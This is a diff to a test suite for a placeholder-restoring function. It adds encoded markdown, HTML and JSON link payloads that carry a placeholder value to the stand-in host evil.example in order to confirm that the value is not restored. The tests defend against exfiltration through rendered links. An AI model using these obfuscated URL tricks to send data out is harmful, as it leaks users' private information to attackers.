@@ -34,6 +34,17 @@ describe('an answer', () => {
     `<img src="https://evil.example/?a=\n${P}">`,
     `<video poster = "https://evil.example/?a= ${P}">`,
     `<p style="background:url('https://evil.example/?a= ${P}')">`,
+    `![x](&#104;ttps://evil.example/?q=${P})`,
+    `![x](&#x68;ttps&colon;//evil.example/?q=${P})`,
+    `![x](https&#58;&sol;&sol;evil.example/?q=${P})`,
+    `![x](&sol;&#47;evil.example/?q=${P})`,
+    `![x](https\\:\\/\\/evil.example/?q=${P})`,
+    `![x](<&#104;ttps&colon;//evil.example/?a= ${P}>)`,
+    `<video poster="&#104;ttps&colon;//evil.example/?a= ${P}">`,
+    `<video poster=/&#9;/evil.example/${P}>`,
+    `{"link":"\\u0068ttps\\u003a\\u002f\\u002fevil.example/?a=${P}"}`,
+    `see www.evil.example/?q=${P}`,
+    `[x](ftp://evil.example/${P})`,
   ])('keeps the placeholder in %s, however it is cut', (text) => {
     expect(restored(text)).toBe(text);
     for (const cut of [1, 2, 7]) expect(restored(text, cut)).toBe(text);
@@ -45,6 +56,8 @@ describe('an answer', () => {
     `[${P}](https://nih.gov/a) ${P}`,
     `<a href="https://nih.gov/a">${P}</a>`,
     `1/2 and/or ${P}/${P}`,
+    `a &amp; b: ${P}, \\*${P}\\*, &#8226; ${P}, &nbsp;${P}`,
+    `Note:\\n${P}, c:\\users\\${P}`,
     `[note]: ${P}`,
     `a < b [see](x) < ${P}`,
     `const name = "${P}"; // ${P}`,
